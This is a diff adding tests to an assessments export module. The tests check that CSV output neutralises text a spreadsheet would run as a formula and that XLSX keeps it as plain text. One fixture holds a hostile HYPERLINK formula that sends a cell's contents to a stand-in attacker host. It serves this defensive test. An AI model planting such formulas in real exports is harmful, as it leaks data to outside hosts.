@@ -15,6 +15,8 @@ import { submitAssessment } from '$lib/server/assessments';
 import { assessmentWorld, sample } from '$lib/server/assessments/testing';
 import { DATASETS, findDataset, startExport } from '.';
 import { datasetMapping, documentedMapping } from './doc';
+import type { Cell } from './dataset';
+import { csvStream } from './writers';
 import { fillAssessments } from './testing';
 import { refusal } from '$lib/server/testing';
 
@@ -75,6 +77,24 @@ describe('the assessments export', () => {
 			'Needed: tarpaulins': '10',
 			'Duplicate review': ''
 		});
+	});
+
+	it('neutralises text a spreadsheet would run as a formula, in CSV; XLSX keeps it as text', async () => {
+		const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
+		submit(w.field, { villageName: formula, notes: '@SUM(1+1)' });
+		const query = { responseId: String(w.responseId) };
+		const { header, rows } = await csv(w.coordinator, 'assessments', query);
+		const record = Object.fromEntries(header.map((h, i) => [h, rows[0][i]]));
+		expect(record).toMatchObject({
+			Village: `'${formula}`,
+			Notes: "'@SUM(1+1)",
+			'Affected persons': '117'
+		});
+		const sheet = (await workbook(run(w.coordinator, 'assessments', 'xlsx', query).body))
+			.worksheets[0];
+		const village = sheet.getRow(3).getCell(header.indexOf('Village') + 1);
+		expect(village.type).toBe(ExcelJS.ValueType.String);
+		expect(village.value).toBe(formula);
 	});
 
 	it('gives partners their own organisation’s rows only, whatever organisation they ask for', async () => {
@@ -275,4 +295,41 @@ describe('a large export', () => {
 		// The sheet's XML is several times the zipped file; none of it may wait in memory.
 		expect(peak).toBeLessThan(size / 4);
 	}, 120_000);
+});
+
+describe('formula neutralisation', () => {
+	const table = (values: Cell[]) => ({
+		name: 'cells',
+		columns: values.map((_, i) => ({ header: `c${i}`, hxl: '', value: (r: Cell[]) => r[i] })),
+		rows: [values]
+	});
+
+	it('prefixes text starting with = + - @ tab or carriage return, and nothing else', async () => {
+		const text = [
+			'=1+2',
+			'+855 12 345 678',
+			'-2+3',
+			'@SUM(A1)',
+			'\tcmd',
+			'\rcmd',
+			'Poipet',
+			"'quoted"
+		];
+		const out: string[][] = parse(await bytes(csvStream(table(text))), { bom: true });
+		expect(out[2]).toEqual([
+			"'=1+2",
+			"'+855 12 345 678",
+			"'-2+3",
+			"'@SUM(A1)",
+			"'\tcmd",
+			"'\rcmd",
+			'Poipet',
+			"'quoted"
+		]);
+	});
+
+	it('keeps numbers as numbers, negative ones too', async () => {
+		const raw = (await bytes(csvStream(table([-5, 0, 12.5, true, null])))).toString('utf8');
+		expect(raw.split('\r\n')[2]).toBe('-5,0,12.5,true,');
+	});
 });
